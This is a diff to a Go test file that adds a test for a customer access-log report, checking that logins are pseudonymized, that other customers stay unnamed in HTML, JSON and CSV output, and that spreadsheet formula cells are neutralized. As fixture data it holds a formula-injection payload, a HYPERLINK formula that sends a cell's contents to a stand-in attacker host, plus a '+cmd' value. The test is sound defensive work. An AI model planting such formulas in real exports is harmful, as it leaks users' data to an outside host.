@@ -5,6 +5,8 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
+	"os"
+	"path/filepath"
 	"slices"
 	"strings"
 	"testing"
@@ -179,4 +181,88 @@ func TestReportReasonsDistinct(t *testing.T) {
 			t.Errorf("distinct changed its input: %v", tc.in)
 		}
 	}
+}
+
+// TestReportCustomerSubjects: a customer's login (the token's sub, here an email) never
+// reaches the log raw: it takes the pseudonym of the customer it maps to. The report says
+// "you" for the customer's own accesses and "another customer" for someone else's, in every
+// format. CSV cells that a spreadsheet would run as formulas are neutralized.
+func TestReportCustomerSubjects(t *testing.T) {
+	f := newFixture(t)
+	l := f.open(t)
+	ctx := context.Background()
+	add := func(i int, sub, subCustomer, purpose string) {
+		e := entry(t, i)
+		e.Input.Resource.CustomerID = "c-1001"
+		e.Input.Subject.ID, e.Input.Subject.Type, e.Input.Subject.CustomerID = sub, "customer", subCustomer
+		e.Input.Subject.Roles = []string{"customer"}
+		e.Input.Purpose = purpose
+		if err := l.Append(ctx, e); err != nil {
+			t.Fatal(err)
+		}
+	}
+	add(0, "alice@example.com", "c-1001", "essential.service.operations")
+	add(1, "bob@example.com", "c-2002", `=HYPERLINK("https://evil.example/?"&A2;"Details")`)
+	add(2, "carol", "", "+cmd")
+	l.Close()
+	raw := readAll(t, f.dir)
+	for _, leak := range []string{"alice@example.com", "bob@example.com", `"carol"`} {
+		if strings.Contains(raw, leak) {
+			t.Errorf("the log holds a customer's raw login %s", leak)
+		}
+	}
+	ps, _ := NewPseudonymizer(testKey)
+	rep, err := BuildReport(ctx, f.dir, ReportOptions{CustomerID: "c-1001", Pseudonymizer: ps, NameEmployees: true})
+	if err != nil || len(rep.Accesses) != 3 {
+		t.Fatalf("report %+v %v", rep, err)
+	}
+	if w := []string{rep.Accesses[0].Who, rep.Accesses[1].Who, rep.Accesses[2].Who}; !slices.Equal(w, []string{"you", "another customer", "another customer"}) {
+		t.Fatalf("who: %q", w)
+	}
+	var out bytes.Buffer
+	for _, write := range []func(*bytes.Buffer) error{
+		func(b *bytes.Buffer) error { return rep.WriteHTML(b) },
+		func(b *bytes.Buffer) error { return rep.WriteJSON(b) },
+		func(b *bytes.Buffer) error { return rep.WriteCSV(b) },
+	} {
+		out.Reset()
+		if err := write(&out); err != nil {
+			t.Fatal(err)
+		}
+		if s := out.String(); strings.Contains(s, "bob") || strings.Contains(s, ps.Customer("c-2002")) || strings.Contains(s, ps.Customer("carol")) {
+			t.Errorf("a report names another customer: %s", s)
+		}
+	}
+	rows, err := csv.NewReader(&out).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, row := range rows[1:] {
+		for i, cell := range row {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("csv cell %d starts with a formula character: %q", i, cell)
+			}
+		}
+	}
+	if rows[2][4] != `'=HYPERLINK("https://evil.example/?"&A2;"Details")` {
+		t.Errorf("purpose cell %q", rows[2][4])
+	}
+}
+
+// readAll returns every segment of the log in dir, concatenated.
+func readAll(t *testing.T, dir string) string {
+	t.Helper()
+	segs, err := listSegments(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var b strings.Builder
+	for _, s := range segs {
+		raw, err := os.ReadFile(filepath.Join(dir, s.name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		b.Write(raw)
+	}
+	return b.String()
 }
